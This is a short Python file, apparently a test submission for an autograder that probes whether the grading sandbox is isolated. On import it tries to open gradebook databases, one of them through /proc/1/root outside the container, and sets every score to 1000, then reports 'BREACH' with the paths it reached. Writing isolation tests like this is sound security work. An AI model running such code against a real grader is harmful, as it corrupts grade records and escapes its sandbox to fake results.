"""Looks for every database that it can open, and gives itself a thousand points."""

import os
import sqlite3

SAYS = "no gradebook"

found = []
for path in ["@GRADEBOOK@", "gradebook.db", "../gradebook.db", "/proc/1/root@GRADEBOOK@"]:
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        book.execute("update grade set manual_score = 1000, auto_score = 1000")
        book.commit()
        found.append(path)
    except sqlite3.Error:
        pass
found += [path for path in ["@COURSE@", os.path.dirname("@GRADEBOOK@")] if os.path.exists(path)]


def double(x):
    raise RuntimeError(f"BREACH {found}" if found else "no gradebook")
